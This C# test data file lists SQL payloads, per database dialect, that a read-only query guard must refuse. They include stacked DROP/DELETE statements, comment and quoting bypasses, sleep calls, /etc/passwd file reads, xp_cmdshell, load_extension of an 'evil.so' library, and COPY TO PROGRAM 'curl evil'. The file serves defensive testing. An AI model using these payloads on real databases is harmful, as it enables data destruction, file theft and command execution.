using McpAnalyzers.Runtime;

namespace McpAnalyzers.Runtime.Tests;

/// <summary>
/// Payloads SqlGuard.EnsureReadOnly must refuse, per dialect, each with the reason it must give: stacked statements,
/// comment and quoting tricks, time and file functions in every spelling the dialect resolves, executable comments and
/// hints, writes inside CTEs, locking reads, SELECT INTO. The accepted queries are in <see cref="TestCorpora.SqlCorpus"/>.
/// </summary>
internal static class SqlPayloads
{
    public static readonly (string Sql, SqlRefusal Reason)[] PostgreSql =
    {
        // stacked statements, and comment and quoting tricks that hide the ';'
        ("SELECT * FROM users; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT 1;DELETE FROM users --", SqlRefusal.MultipleStatements),
        ("select 1 ;\n update users set name = 'x'", SqlRefusal.MultipleStatements),
        ("SELECT 1; SELECT 2", SqlRefusal.MultipleStatements),
        ("SELECT 1;;", SqlRefusal.MultipleStatements),
        ("SELECT 'a'';DROP TABLE users;--'; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT $$;$$; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT $a$ $b$ $a$; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT 1 --\r; DELETE FROM users", SqlRefusal.MultipleStatements), // PostgreSQL ends a line comment at \r
        ("SELECT 1 /* /* */ ' */ ; DELETE FROM users --'", SqlRefusal.MultipleStatements), // comments nest
        ("SELECT 1 /* c */ ; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT 'a\\'' ; DELETE FROM users; --'", SqlRefusal.MultipleStatements), // standard_conforming_strings off
        ("SELECT 1 UNION SELECT 2; SHUTDOWN", SqlRefusal.MultipleStatements),
        ("SELECT 1\0; DELETE FROM users", SqlRefusal.Ambiguous),

        // not a query
        ("DELETE FROM users", SqlRefusal.NotAQuery),
        ("COPY users TO PROGRAM 'curl evil'", SqlRefusal.NotAQuery),
        ("DO $$ BEGIN PERFORM pg_sleep(5); END $$", SqlRefusal.NotAQuery),
        ("EXPLAIN ANALYZE DELETE FROM users", SqlRefusal.NotAQuery),
        ("BEGIN; DELETE FROM users; COMMIT", SqlRefusal.NotAQuery),
        ("SET ROLE postgres", SqlRefusal.NotAQuery),
        ("CALL do_things()", SqlRefusal.NotAQuery),
        ("U&\"SELECT\" 1", SqlRefusal.NotAQuery),

        // writes inside CTEs, SELECT INTO
        ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", SqlRefusal.WriteOrCommand),
        ("WITH u AS (UPDATE users SET name = 'x' RETURNING id) SELECT id FROM u", SqlRefusal.WriteOrCommand),
        ("WITH i AS (INSERT INTO users (id, name) VALUES (9, 'x') RETURNING id) SELECT id FROM i", SqlRefusal.WriteOrCommand),
        ("with recursive r as (select 1) , d as (delete from orders returning *) select * from r", SqlRefusal.WriteOrCommand),
        ("SELECT * INTO backup FROM users", SqlRefusal.WriteOrCommand),
        ("SELECT * INTO TEMP copy FROM users", SqlRefusal.WriteOrCommand),

        // locking reads
        ("SELECT * FROM users FOR UPDATE", SqlRefusal.LockingRead),
        ("SELECT * FROM users FOR NO KEY UPDATE", SqlRefusal.LockingRead),
        ("SELECT * FROM users FOR SHARE", SqlRefusal.LockingRead),
        ("select * from users for key share skip locked", SqlRefusal.LockingRead),
        ("SELECT * FROM users u JOIN orders o ON o.user_id = u.id FOR UPDATE OF u NOWAIT", SqlRefusal.LockingRead),
        ("SELECT * FROM users /* lock */ FOR /* it */ SHARE", SqlRefusal.LockingRead),

        // time, file and side-effect functions, in every spelling PostgreSQL resolves
        ("SELECT pg_sleep(10)", SqlRefusal.ForbiddenFunction),
        ("SELECT PG_SLEEP(10)", SqlRefusal.ForbiddenFunction),
        ("SELECT \"pg_sleep\"(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_catalog.pg_sleep(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT \"pg_catalog\".\"pg_sleep\"(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_catalog . pg_sleep (1)", SqlRefusal.ForbiddenFunction),
        ("SELECT U&\"pg_\\0073leep\"(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT U&\"\\0070\\0067\\005f\\0073\\006C\\0065\\0065\\0070\"(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT u&\"pg_\\+000073leep\"(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT U&\"pg_!0073leep\" UESCAPE '!' (1)", SqlRefusal.ForbiddenFunction),
        ("SELECT U&\"pg_!0073leep\" /* c */ uescape\n'!'(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT U&\"lo_\\0069mport\"('/etc/passwd')", SqlRefusal.ForbiddenFunction),
        ("SELECT U&\"pg\\0073leep\"(1)", SqlRefusal.Ambiguous), // "pgsleep": no such function, but no query spells calls with escapes
        ("SELECT U&\"low\\0065r\"('X')", SqlRefusal.Ambiguous),
        ("SELECT pg_catalog.U&\"\\0070g_sleep\"(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_sleep /**/ (1)", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_sleep -- comment\n(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_sleep\n\t(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM pg_sleep(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT @pg_sleep(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT 1e0pg_sleep(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_sleep_for('5 seconds')", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_read_file('/etc/passwd')", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM pg_ls_dir('.')", SqlRefusal.ForbiddenFunction),
        ("SELECT lo_import('/etc/passwd')", SqlRefusal.ForbiddenFunction),
        ("SELECT public.lo_import('/etc/passwd')", SqlRefusal.ForbiddenFunction),
        ("SELECT \"lo_export\"(16400, '/tmp/x')", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", SqlRefusal.ForbiddenFunction),
        ("SELECT dblink_exec('host=evil', 'drop table users')", SqlRefusal.ForbiddenFunction),
        ("SELECT set_config('default_transaction_read_only', 'off', false)", SqlRefusal.ForbiddenFunction),
        ("SELECT nextval('orders_id_seq')", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_notify('channel', 'payload')", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_advisory_lock(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT query_to_xml('select 1', true, false, '')", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_terminate_backend(pg_backend_pid())", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_wait_for_backend_termination(1, 60000)", SqlRefusal.ForbiddenFunction),
        ("SELECT pg_replication_slot_advance('slot', '0/0')", SqlRefusal.ForbiddenFunction),
        ("SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery')", SqlRefusal.ForbiddenFunction),
        ("SELECT lowrite(lo_open(16400, 131072), 'x')", SqlRefusal.ForbiddenFunction),

        // names that cannot be decoded
        ("SELECT U&\"pg\\zzzzleep\"(1)", SqlRefusal.Ambiguous),
        ("SELECT U&\"x\" UESCAPE '+'", SqlRefusal.Ambiguous),
        ("SELECT U&\"x\" UESCAPE 'ab'", SqlRefusal.Ambiguous),
        ("SELECT U&\"x\" UESCAPE", SqlRefusal.Ambiguous),
        ("SELECT U&\"\\D800\"", SqlRefusal.Ambiguous),

        // comments a server acts on (pg_hint_plan reads /*+ */)
        ("SELECT /*+ Set(enable_seqscan off) */ * FROM users", SqlRefusal.ExecutableComment),
        ("SELECT 1 /*! ; DROP TABLE users */", SqlRefusal.ExecutableComment),
        ("SELECT 1 --+ hint", SqlRefusal.ExecutableComment),

        // never closed, empty
        ("SELECT 'unterminated", SqlRefusal.Unterminated),
        ("SELECT \"unterminated", SqlRefusal.Unterminated),
        ("SELECT 1 /* never closed", SqlRefusal.Unterminated),
        ("SELECT 1 /* /* nested */ still open", SqlRefusal.Unterminated),
        ("SELECT $$ never closed", SqlRefusal.Unterminated),
        ("SELECT E'a\\'", SqlRefusal.Unterminated),
        ("   ", SqlRefusal.Empty),
        ("-- only a comment", SqlRefusal.Empty),
    };

    public static readonly (string Sql, SqlRefusal Reason)[] MySql =
    {
        // stacked statements, and comment and quoting tricks that hide the ';'
        ("SELECT * FROM users; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT 1 --x; DELETE FROM users", SqlRefusal.MultipleStatements), // -- is a comment only before a space
        ("SELECT 1 #\n; DELETE FROM users", SqlRefusal.MultipleStatements),
        ("SELECT 1 /* x */; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT $$; DELETE FROM users; $$", SqlRefusal.MultipleStatements), // no dollar quoting: $$ is a name
        ("SELECT 'a\\'; DELETE FROM users; -- '", SqlRefusal.MultipleStatements), // NO_BACKSLASH_ESCAPES
        ("SELECT \"a\\\"; DELETE FROM users; -- \"", SqlRefusal.MultipleStatements), // ANSI_QUOTES
        ("SELECT 1 /* /* */ ; DELETE FROM users -- */", SqlRefusal.MultipleStatements), // comments do not nest

        // not a query
        ("DO sleep(5)", SqlRefusal.NotAQuery),
        ("HANDLER users OPEN", SqlRefusal.NotAQuery),
        ("REPLACE INTO users VALUES (1, 'x')", SqlRefusal.NotAQuery),
        ("LOAD DATA INFILE '/etc/passwd' INTO TABLE users", SqlRefusal.NotAQuery),
        ("SET GLOBAL general_log = 1", SqlRefusal.NotAQuery),
        ("/*!SELECT*/ 1", SqlRefusal.ExecutableComment),

        // executable comments and optimizer hints
        ("SELECT 1 /*!; DROP TABLE users */", SqlRefusal.ExecutableComment),
        ("SELECT /*!50000 sleep(5) */ 1", SqlRefusal.ExecutableComment),
        ("SELECT 1 /*!50000SLEEP(5)*/", SqlRefusal.ExecutableComment),
        ("SELECT 1 /*!99999 , sleep(5) */", SqlRefusal.ExecutableComment),
        ("SELECT /*+ SET_VAR(sql_mode = '') */ * FROM users", SqlRefusal.ExecutableComment),
        ("SELECT /*+ MAX_EXECUTION_TIME(1) */ 1", SqlRefusal.ExecutableComment),
        ("SELECT 1 /*M! , sleep(5) */", SqlRefusal.ExecutableComment),
        ("SELECT 1 /*M!100100 , sleep(5) */", SqlRefusal.ExecutableComment),
        ("SELECT 1 # fine\n/*!*/", SqlRefusal.ExecutableComment),

        // writes inside CTEs, SELECT INTO
        ("WITH d AS (SELECT id FROM users) DELETE FROM users WHERE id IN (SELECT id FROM d)", SqlRefusal.WriteOrCommand),
        ("WITH x AS (SELECT 1) UPDATE users SET name = 'x'", SqlRefusal.WriteOrCommand),
        ("SELECT * FROM users INTO OUTFILE '/tmp/users.txt'", SqlRefusal.WriteOrCommand),
        ("SELECT * INTO DUMPFILE '/tmp/x' FROM users", SqlRefusal.WriteOrCommand),
        ("SELECT count(*) INTO @n FROM users", SqlRefusal.WriteOrCommand),

        // locking reads
        ("SELECT * FROM users FOR UPDATE", SqlRefusal.LockingRead),
        ("SELECT * FROM users LOCK IN SHARE MODE", SqlRefusal.LockingRead),
        ("SELECT * FROM users FOR SHARE NOWAIT", SqlRefusal.LockingRead),
        ("SELECT * FROM users FOR UPDATE SKIP LOCKED", SqlRefusal.LockingRead),

        // time, file and lock functions, in every spelling MySQL resolves
        ("SELECT sleep(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT SlEeP(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT `sleep`(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT `SLEEP` (5)", SqlRefusal.ForbiddenFunction),
        ("SELECT \"sleep\"(5)", SqlRefusal.ForbiddenFunction), // ANSI_QUOTES
        ("SELECT sleep/**/(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT sleep # comment\n(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT sleep -- comment\n(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT `mysql`.`sleep`(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT mysql.sleep(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT 1 FROM users WHERE id = 1 AND sleep(5)", SqlRefusal.ForbiddenFunction),
        ("SELECT benchmark(100000000, sha1('x'))", SqlRefusal.ForbiddenFunction),
        ("SELECT load_file('/etc/passwd')", SqlRefusal.ForbiddenFunction),
        ("SELECT get_lock('x', 10)", SqlRefusal.ForbiddenFunction),
        ("SELECT master_pos_wait('log', 4)", SqlRefusal.ForbiddenFunction),
        ("SELECT sys_exec('id')", SqlRefusal.ForbiddenFunction),

        // names a collation may fold into a forbidden one
        ("SELECT sl\u00e9ep(5)", SqlRefusal.Ambiguous),
        ("SELECT `\uff53\uff4c\uff45\uff45\uff50`(5)", SqlRefusal.Ambiguous),

        // never closed
        ("SELECT 'a\\'", SqlRefusal.Unterminated),
        ("SELECT `x", SqlRefusal.Unterminated),
        ("SELECT 1 /* open", SqlRefusal.Unterminated),
    };

    public static readonly (string Sql, SqlRefusal Reason)[] SqlServer =
    {
        // stacked statements, with and without ';'
        ("SELECT * FROM users; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT 'a'';DROP TABLE users;--'; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT [a;b]; DELETE FROM users", SqlRefusal.MultipleStatements),
        ("SELECT 1 /* /* */ ' */ ; DELETE FROM users --'", SqlRefusal.MultipleStatements), // comments nest
        ("SELECT 1 DROP TABLE users", SqlRefusal.WriteOrCommand),
        ("SELECT 1 DELETE FROM users", SqlRefusal.WriteOrCommand),
        ("SELECT 1 EXEC('DROP TABLE users')", SqlRefusal.WriteOrCommand),
        ("SELECT 1 EXEC master..xp_cmdshell 'dir'", SqlRefusal.WriteOrCommand),
        ("SELECT 1 WAITFOR DELAY '0:0:10'", SqlRefusal.WriteOrCommand),
        ("SELECT 1 WHILE 1 = 1 SELECT 1", SqlRefusal.WriteOrCommand),
        ("SELECT 1 USE master", SqlRefusal.WriteOrCommand),
        ("SELECT 1 DISABLE TRIGGER audit ON users", SqlRefusal.WriteOrCommand),
        ("SELECT 1 DENY SELECT ON users TO public", SqlRefusal.WriteOrCommand),
        ("SELECT 1 RECONFIGURE", SqlRefusal.WriteOrCommand),
        ("SELECT 1 DBCC CHECKDB", SqlRefusal.WriteOrCommand),
        ("SELECT 1 SHUTDOWN WITH NOWAIT", SqlRefusal.WriteOrCommand),
        ("SELECT 1 --\r; DELETE FROM users", SqlRefusal.Ambiguous), // a lone \r in a line comment

        // not a query
        ("EXEC xp_cmdshell 'dir'", SqlRefusal.NotAQuery),
        ("xp_cmdshell 'dir'", SqlRefusal.NotAQuery),
        ("[xp_cmdshell] 'dir'", SqlRefusal.NotAQuery),
        ("BULK INSERT users FROM 'C:\\x.csv'", SqlRefusal.NotAQuery),
        ("DECLARE @x int", SqlRefusal.NotAQuery),

        // writes inside CTEs, SELECT INTO, rowset functions
        ("WITH d AS (SELECT * FROM users) DELETE FROM d", SqlRefusal.WriteOrCommand),
        ("WITH x AS (SELECT 1 AS a) UPDATE users SET name = 'x'", SqlRefusal.WriteOrCommand),
        ("WITH s AS (SELECT * FROM users) MERGE INTO users USING s ON 1 = 0 WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id);", SqlRefusal.WriteOrCommand),
        ("SELECT * INTO #copy FROM users", SqlRefusal.WriteOrCommand),
        ("SELECT * INTO dbo.backup FROM users", SqlRefusal.WriteOrCommand),
        ("SELECT * FROM OPENROWSET(BULK 'C:\\secret.txt', SINGLE_CLOB) AS x", SqlRefusal.WriteOrCommand),
        ("SELECT * FROM OPENQUERY(remote, 'SELECT 1')", SqlRefusal.WriteOrCommand),
        ("SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t", SqlRefusal.WriteOrCommand),

        // locking reads
        ("SELECT * FROM users WITH (UPDLOCK)", SqlRefusal.LockingRead),
        ("SELECT * FROM users WITH (XLOCK, ROWLOCK)", SqlRefusal.LockingRead),
        ("SELECT * FROM users WITH (HOLDLOCK) WHERE id = 1", SqlRefusal.LockingRead),
        ("SELECT * FROM users (tablockx)", SqlRefusal.LockingRead),

        // procedures and file functions, in every spelling SQL Server resolves
        ("SELECT xp_cmdshell('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT [xp_cmdshell]('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT \"xp_cmdshell\"('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT dbo.xp_cmdshell('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT master..xp_cmdshell('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT [master]..[xp_cmdshell]('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT master.dbo.[XP_CMDSHELL] ('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT [xp_cmd]]shell]('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT xp_dirtree /**/ ('C:\\')", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM sys.fn_xe_file_target_read_file('C:\\x\\*.xel', NULL, NULL, NULL)", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM ::fn_trace_gettable('C:\\t.trc', DEFAULT)", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM fn_get_audit_file('C:\\a\\*', DEFAULT, DEFAULT)", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM [OPENROWSET]('SQLNCLI', 'Server=evil', 'SELECT 1')", SqlRefusal.ForbiddenFunction),
        ("SELECT [sp_executesql](N'DROP TABLE users')", SqlRefusal.ForbiddenFunction),

        // names a collation may fold into a forbidden one
        ("SELECT [xp_cmdsh\u00e9ll]('dir')", SqlRefusal.Ambiguous),
        ("SELECT [xp\u200b_cmdshell]('dir')", SqlRefusal.Ambiguous),
        ("SELECT xp_cmdshell\u00ad('dir')", SqlRefusal.Ambiguous),

        // comments a server may act on
        ("SELECT /*+ anything */ 1", SqlRefusal.ExecutableComment),
        ("SELECT 1 /*!; DROP TABLE users */", SqlRefusal.ExecutableComment),

        // never closed
        ("SELECT [unterminated", SqlRefusal.Unterminated),
        ("SELECT 1 /* /* */ still open", SqlRefusal.Unterminated),
    };

    public static readonly (string Sql, SqlRefusal Reason)[] Sqlite =
    {
        // stacked statements
        ("SELECT 1; DELETE FROM users", SqlRefusal.MultipleStatements),
        ("SELECT 1 /* x */; ATTACH DATABASE '/tmp/x.db' AS x", SqlRefusal.MultipleStatements),
        ("SELECT 'a'';DROP TABLE users;--'; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT [a]; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT 1 /* /* */; DROP TABLE users", SqlRefusal.MultipleStatements), // comments do not nest
        ("SELECT 1 -- c\n; PRAGMA writable_schema = 1", SqlRefusal.MultipleStatements),
        ("SELECT 1\0; DELETE FROM users", SqlRefusal.Ambiguous),

        // not a query
        ("ATTACH DATABASE '/tmp/x.db' AS x", SqlRefusal.NotAQuery),
        ("PRAGMA writable_schema = 1", SqlRefusal.NotAQuery),
        ("VACUUM INTO '/tmp/copy.db'", SqlRefusal.NotAQuery),
        ("REPLACE INTO users VALUES (1, 'x', NULL, '2024-01-01')", SqlRefusal.NotAQuery),
        ("INSERT OR REPLACE INTO users VALUES (1, 'x', NULL, '2024-01-01')", SqlRefusal.NotAQuery),
        ("DETACH DATABASE x", SqlRefusal.NotAQuery),

        // writes after a CTE, SELECT INTO
        ("WITH x AS (SELECT 1) DELETE FROM users", SqlRefusal.WriteOrCommand),
        ("WITH x AS (SELECT 1) INSERT INTO users (id, name) SELECT 9, 'x'", SqlRefusal.WriteOrCommand),
        ("WITH x AS (SELECT 1) UPDATE users SET name = 'x'", SqlRefusal.WriteOrCommand),
        ("WITH x AS (SELECT 1) REPLACE INTO users VALUES (1, 'x', NULL, '2024-01-01')", SqlRefusal.WriteOrCommand),
        ("SELECT * INTO backup FROM users", SqlRefusal.WriteOrCommand),
        ("SELECT * FROM users FOR UPDATE", SqlRefusal.LockingRead),

        // extension and file functions, in every spelling SQLite resolves
        ("SELECT load_extension('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT LOAD_EXTENSION('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT \"load_extension\"('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT [load_extension]('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT `load_extension`('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT \"LOAD_EXTENSION\" ('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT load_extension /* c */ ('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT load_extension\n('/tmp/evil.so', 'init')", SqlRefusal.ForbiddenFunction),
        ("SELECT main.load_extension('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT readfile('/etc/passwd')", SqlRefusal.ForbiddenFunction),
        ("SELECT writefile('/tmp/x', 'data')", SqlRefusal.ForbiddenFunction),
        ("SELECT edit('text')", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM fsdir('/')", SqlRefusal.ForbiddenFunction),
        ("SELECT fts3_tokenizer('simple')", SqlRefusal.ForbiddenFunction),
        ("SELECT * FROM zipfile('/tmp/a.zip')", SqlRefusal.ForbiddenFunction),

        // comments a server may act on
        ("SELECT /*! 1 */ 2", SqlRefusal.ExecutableComment),
        ("SELECT /*+ hint */ 1", SqlRefusal.ExecutableComment),

        // never closed
        ("SELECT 'x", SqlRefusal.Unterminated),
        ("SELECT [x", SqlRefusal.Unterminated),
        ("SELECT \"x", SqlRefusal.Unterminated),
        ("SELECT 1 /* x", SqlRefusal.Unterminated),
    };

    /// <summary>SqlDialect.Ansi: refused because one of the dialects reads the text differently from the others.</summary>
    public static readonly (string Sql, SqlRefusal Reason)[] Ansi =
    {
        ("SELECT * FROM users; DROP TABLE users", SqlRefusal.MultipleStatements),
        ("SELECT 1 --x; DELETE FROM users", SqlRefusal.MultipleStatements), // MySQL: not a comment
        ("SELECT 1 --\r; DELETE FROM users", SqlRefusal.MultipleStatements), // PostgreSQL: the comment ends at \r
        ("SELECT 1 --\r' \n; DELETE FROM users; --'", SqlRefusal.MultipleStatements), // SQLite: the comment ends at \n
        ("SELECT 1 # ' \n; DELETE FROM users -- '", SqlRefusal.MultipleStatements), // MySQL: # is a comment
        ("SELECT $$; DELETE FROM users; $$", SqlRefusal.MultipleStatements), // dollar quotes are PostgreSQL's only
        ("SELECT 'a\\'' ; DELETE FROM users; -- '", SqlRefusal.MultipleStatements), // backslash escapes
        ("SELECT 'a\\'; DELETE FROM users; -- '", SqlRefusal.MultipleStatements), // no backslash escapes
        ("SELECT 1 /* /* */ ' */ ; DELETE FROM users --'", SqlRefusal.MultipleStatements), // nesting comments
        ("SELECT 1 /* /* */ DELETE FROM users */", SqlRefusal.WriteOrCommand), // comments that do not nest
        ("SELECT `delete` FROM audit_columns", SqlRefusal.WriteOrCommand), // backticks quote nothing in PostgreSQL
        ("SELECT [update] FROM audit_columns", SqlRefusal.WriteOrCommand), // nor do brackets
        ("SELECT 1 WHILE 1 = 1 SELECT 1", SqlRefusal.WriteOrCommand), // SQL Server needs no ';'
        ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", SqlRefusal.WriteOrCommand),
        ("SELECT * INTO backup FROM users", SqlRefusal.WriteOrCommand),
        ("SELECT * FROM users FOR UPDATE", SqlRefusal.LockingRead),
        ("SELECT * FROM users LOCK IN SHARE MODE", SqlRefusal.LockingRead),
        ("SELECT * FROM users WITH (UPDLOCK)", SqlRefusal.LockingRead),
        ("SELECT pg_sleep(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT sleep(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT load_extension('/tmp/evil.so')", SqlRefusal.ForbiddenFunction),
        ("SELECT xp_cmdshell('dir')", SqlRefusal.ForbiddenFunction),
        ("SELECT \"pg_sleep\"(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT `pg_sleep`(1)", SqlRefusal.ForbiddenFunction), // MySQL and SQLite quote with backticks
        ("SELECT [xp_cmdshell]('dir')", SqlRefusal.ForbiddenFunction), // SQL Server and SQLite with brackets
        ("SELECT U&\"pg_\\0073leep\"(1)", SqlRefusal.ForbiddenFunction),
        ("SELECT U&\"pg\\0073leep\"(1)", SqlRefusal.Ambiguous),
        ("SELECT pg_catalog.pg_sleep /**/ (1)", SqlRefusal.ForbiddenFunction),
        ("SELECT sl\u00e9ep(5)", SqlRefusal.Ambiguous), // SQL Server and MySQL compare names by collation
        ("SELECT /*! sleep(5) */ 1", SqlRefusal.ExecutableComment),
        ("SELECT 1 /*M! , sleep(5) */", SqlRefusal.ExecutableComment),
        ("SELECT /*+ INDEX(users) */ * FROM users", SqlRefusal.ExecutableComment),
        ("SELECT --+ FULL(users)\n * FROM users", SqlRefusal.ExecutableComment), // Oracle's hint
        ("SELECT 'unterminated", SqlRefusal.Unterminated),
        ("SELECT 1; SELECT 2", SqlRefusal.MultipleStatements),
        ("DELETE FROM t", SqlRefusal.NotAQuery),
        ("-- only a comment", SqlRefusal.Empty),
    };
}
